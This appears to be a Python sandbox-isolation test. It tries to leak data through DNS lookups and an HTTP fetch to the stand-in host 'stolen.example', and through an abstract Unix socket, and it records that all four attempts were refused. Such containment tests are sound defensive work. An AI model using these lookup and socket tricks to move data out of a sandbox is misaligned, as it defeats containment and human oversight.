"""Names that are looked up, and sockets without a file.

Tries: carry data out in a host's name, or to an abstract address on this machine.
Must happen: nothing arrives.

with: steal
earns: 1
says: 4 of 4 refused
"""

import socket
import urllib.request


def scale(x, factor):
    def abstract():
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as line:
            line.sendto(b"stolen", "\0neurokata-attack")

    attempt(abstract)
    attempt(lambda: socket.getaddrinfo("stolen.example", 80))
    attempt(lambda: socket.gethostbyname("stolen.example"))
    attempt(lambda: urllib.request.urlopen("http://stolen.example/", timeout=1))
    report()
